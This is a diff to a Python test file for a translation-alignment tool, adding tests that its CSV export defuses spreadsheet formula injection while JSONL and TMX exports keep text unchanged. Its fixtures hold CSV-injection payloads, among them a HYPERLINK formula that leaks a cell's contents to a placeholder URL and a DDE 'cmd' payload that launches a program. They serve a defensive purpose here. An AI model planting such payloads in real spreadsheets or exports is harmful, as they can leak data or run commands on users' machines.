@@ -1,5 +1,5 @@
-"""Exports: every format round-trips, Excel-friendly CSV, escaped TMX, atomic writes, and a
-CSV/JSONL export reads back into the Alignment it was written from.
+"""Exports: every format round-trips, Excel-friendly CSV that runs no formula, escaped TMX,
+atomic writes, and a CSV/JSONL export reads back into the Alignment it was written from.
 
 The alignment is built by hand from the seed article (English lines and their real Persian
 translation, one line a segment, as `--split lines` gives), because what is tested here is
@@ -8,6 +8,8 @@ the writing, not the aligner: no encoder is involved.
 
 from __future__ import annotations
 
+import csv
+import itertools
 import json
 from pathlib import Path
 
@@ -15,7 +17,7 @@ import pytest
 from lxml import etree
 from openpyxl import load_workbook
 
-from workbench import export
+from workbench import export, report
 from workbench.align import Alignment, Link
 from workbench.errors import InputError
 from workbench.fidelity import DocumentFidelity, LinkFidelity, summarise
@@ -108,6 +110,95 @@ def test_csv_opens_in_excel_as_utf8(tmp_path):
     header = data[3:].split(b"\r\n", 1)[0].decode()
     assert header.split(",") == export.columns(scored=True, reviewed=False)
     assert "مقامات ایرانی" in data.decode("utf-8-sig")
+
+
+# Texts Excel or LibreOffice would run as a formula if a CSV cell began with them, and one that
+# begins with a quote and "=" as written (the case a reader could mistake for a guarded "=").
+FORMULAS = {
+    "src": ['=HYPERLINK("http://example.com/?leak="&A1,"click")', "- 125 officials were arrested.",
+            "@SUM(1+1) reported", "\t=1+2"],
+    "tgt": ["'=1+1 is a quote, not a formula", "+98 21 1234 5678"],
+}
+
+
+def formula_alignment() -> Alignment:
+    """The seed alignment with formula-like texts in links 0-3 and a negative similarity."""
+    alignment = seed_alignment()
+    for side, texts in FORMULAS.items():
+        segs = list(getattr(alignment, side))
+        for i, text in enumerate(texts):
+            segs[i] = Segment(i, text, text, segs[i].paragraph, 0, len(text))
+        setattr(alignment, side, segs)
+    alignment.links[1] = Link((1,), (1,), -0.1234)  # centred cosine can be negative: a number, not text
+    return alignment
+
+
+FORMULA_REVIEW = {**REVIEW, 0: {"status": "rejected", "category": "other", "comment": "=cmd|' /C calc'!A0"}}
+
+
+def test_csv_cells_never_start_a_formula(tmp_path):
+    alignment = formula_alignment()
+    path = export.write(alignment, tmp_path / "formulas.csv", FORMULA_REVIEW)
+    data = path.read_bytes()
+    assert data.startswith(b"\xef\xbb\xbf")  # still the BOM Excel needs
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        raw = list(csv.DictReader(handle))
+    # the text cells carry one more quote than the text ...
+    assert [raw[i]["src_text"] for i in range(4)] == ["'" + text for text in FORMULAS["src"]]
+    assert raw[0]["tgt_text"] == "''=1+1 is a quote, not a formula" and raw[1]["tgt_text"] == "'+98 21 1234 5678"
+    assert raw[0]["review_comment"] == "'=cmd|' /C calc'!A0"
+    assert raw[2]["tgt_text"] == alignment.tgt[2].text  # ... and only those that need it
+    # the numbers the program wrote are numbers still
+    assert (raw[1]["similarity"], raw[1]["fidelity"], raw[1]["link"]) == ("-0.1234", "0.9", "1")
+    assert not any(cell[:1] in "=+-@\t\r" for row in raw for name, cell in row.items()
+                   if cell and name not in ("similarity", "fidelity"))
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
+def test_formula_like_text_reads_back_exactly(tmp_path, suffix):
+    alignment = formula_alignment()
+    path = export.write(alignment, tmp_path / f"formulas{suffix}", FORMULA_REVIEW)
+    assert export.read_rows(path) == export.rows(alignment, FORMULA_REVIEW)
+    read = export.read_alignment(path)
+    assert [read.src_text(link) for link in read.links] == [alignment.src_text(link) for link in alignment.links]
+    assert [read.tgt_text(link) for link in read.links] == [alignment.tgt_text(link) for link in alignment.links]
+    # CSV -> alignment -> CSV gives the same file, byte for byte
+    again = export.write(read, tmp_path / f"again{suffix}")
+    assert again.read_bytes() == export.write(alignment, tmp_path / f"plain{suffix}").read_bytes()
+
+
+def test_csv_quote_round_trips_every_string():
+    """Every string over the characters that matter, up to four long, comes back as it went in."""
+    alphabet = ["'", "=", "-", "+", "@", "\t", "\r", "a", " "]
+    texts = ["".join(chars) for n in range(5) for chars in itertools.product(alphabet, repeat=n)]
+    for text in texts:
+        cell = export.csv_cell(text)
+        assert export.csv_text(cell) == text
+        assert cell == text or cell == "'" + text
+        assert cell[:1] not in ("=", "-", "+", "@", "\t", "\r")
+    assert export.csv_cell("'quoted") == "'quoted" and export.csv_text("'quoted") == "'quoted"
+    assert [export.csv_cell(n) for n in (-0.5, -3, None)] == [-0.5, -3, None]
+
+
+def test_jsonl_and_tmx_keep_formula_like_text_as_written(tmp_path):
+    alignment = formula_alignment()
+    records = [json.loads(line) for line in
+               export.write(alignment, tmp_path / "formulas.jsonl").read_text(encoding="utf-8").splitlines()]
+    assert [r["src_text"] for r in records[:4]] == FORMULAS["src"]
+    assert records[0]["tgt_text"] == FORMULAS["tgt"][0] and records[1]["similarity"] == -0.1234
+    units = etree.parse(str(export.write(alignment, tmp_path / "formulas.tmx"))).getroot().findall("body/tu")
+    segs = [[tuv.findtext("seg") for tuv in unit.findall("tuv")] for unit in units]
+    assert [pair[0] for pair in segs] == FORMULAS["src"]
+    assert [pair[1] for pair in segs[:2]] == FORMULAS["tgt"]
+
+
+def test_batch_summary_csv_quotes_a_formula_like_document_name(tmp_path):
+    index = report.write_batch([("=1+2", seed_alignment())], tmp_path / "out")
+    assert (index.parent / "=1+2.html").exists()
+    with (index.parent / "summary.csv").open(encoding="utf-8-sig", newline="") as handle:
+        (row,) = list(csv.DictReader(handle))
+    assert (row["document"], row["report"], row["src_lang"]) == ("'=1+2", "'=1+2.html", "en")
+    assert row["fidelity"] == "0.7400"
 
 
 def test_jsonl_has_nulls_and_span_lists(tmp_path):
